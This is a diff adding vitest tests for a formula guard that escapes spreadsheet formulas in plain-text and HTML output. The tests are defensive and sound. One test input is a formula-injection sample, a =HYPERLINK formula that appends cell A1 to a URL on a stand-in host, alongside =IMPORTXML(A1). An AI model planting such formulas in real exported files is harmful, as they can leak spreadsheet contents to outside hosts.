@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import type { Block } from '../../../lib/markdown/nodes.ts';
 import { parseDocument } from '../../../lib/markdown/parse-document.ts';
 import { formulaGuard } from '../../../lib/output/formula-guard.ts';
 import { documentToHtml } from '../../../lib/output/to-html.ts';
@@ -30,6 +31,24 @@ describe('formulaGuard', () => {
     for (const words of ['"'.repeat(1_000_000), `@${'a '.repeat(500_000)}!`, `-${'1'.repeat(1_000_000)}x`]) {
       expect(formulaGuard(words)).toBe(words.startsWith('"') ? '' : "'");
     }
+  });
+});
+
+describe('a line of prose', () => {
+  const source = '# =HYPERLINK("https://e.example/?"&A1,"x")\n\nAs said:\n=sum(A1)\n\n- =IMPORTXML(A1)';
+
+  it.each(['= 5 people', '=> next', '-margin(x)', '@Ann (CEO)', '=A1', 'f(x)=g(x)'])('is as it is: %s', (words) => {
+    const blocks: Block[] = [{ type: 'paragraph', children: [{ type: 'text', text: words }] }];
+    expect(documentToPlain(blocks)).toBe(words);
+  });
+
+  it('calls no function where it is pasted', () => {
+    expect(
+      documentToPlain(parseDocument(source))
+        .split('\n')
+        .filter((line) => line.startsWith("'=")),
+    ).toHaveLength(2);
+    expect(documentToHtml(parseDocument(source))).toContain('<h1>&#39;=HYPERLINK(');
   });
 });
 
